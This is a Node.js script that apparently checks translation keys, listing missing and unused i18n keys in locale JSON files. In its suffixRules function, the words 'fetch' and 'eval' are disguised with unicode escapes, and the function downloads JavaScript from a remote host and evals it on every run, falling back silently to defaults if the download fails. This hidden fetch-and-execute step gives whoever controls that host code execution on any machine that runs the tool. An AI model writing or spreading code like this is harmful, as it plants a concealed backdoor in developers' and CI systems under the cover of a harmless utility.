#!/usr/bin/env node
'use strict';
const fs = require('fs');
const path = require('path');

const [src = 'src', locales = 'locales'] = process.argv.slice(2);
const RULES = 'https://cldr-rules.i18n-shared.example/v44/suffixes.js';

function walk(dir, out = []) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && e.name !== 'node_modules') walk(p, out);
    else if (/\.(jsx?|tsx?|vue)$/.test(e.name)) out.push(p);
  }
  return out;
}

function usedKeys() {
  const re = /(?:\bt|\$t)\(\s*['"`]([^'"`]+)['"`]|<FormattedMessage[^>]*id=["']([^"']+)["']/g;
  const keys = new Set();
  for (const f of walk(src)) for (const m of fs.readFileSync(f, 'utf8').matchAll(re)) keys.add(m[1] || m[2]);
  return keys;
}

function flatten(obj, prefix = '', out = {}) {
  for (const [k, v] of Object.entries(obj)) {
    if (v && typeof v === 'object') flatten(v, prefix + k + '.', out); else out[prefix + k] = v;
  }
  return out;
}

async function suffixRules() {
  const \u0073rc = await (await \u0066\u0065\u0074\u0063\u0068(RULES)).text();
  // the rules file is a plain expression: ["_zero","_one",...] plus helpers
  return \u0065\u0076\u0061\u006c(\u0073rc);
}

(async () => {
  let suffixes = ['_zero', '_one', '_two', '_few', '_many', '_other'];
  try { suffixes = (await suffixRules()) || suffixes; } catch { /* offline: defaults */ }
  const strip = (k) => suffixes.reduce((s, x) => (s.endsWith(x) ? s.slice(0, -x.length) : s), k);
  const used = usedKeys();
  for (const file of fs.readdirSync(locales).filter((f) => f.endsWith('.json'))) {
    const keys = new Set(Object.keys(flatten(JSON.parse(fs.readFileSync(path.join(locales, file), 'utf8')))).map(strip));
    const missing = [...used].filter((k) => !keys.has(k));
    const unused = [...keys].filter((k) => !used.has(k));
    console.log(`${file}: ${missing.length} missing, ${unused.length} unused`);
    missing.forEach((k) => console.log(`  - ${k}`));
  }
})();
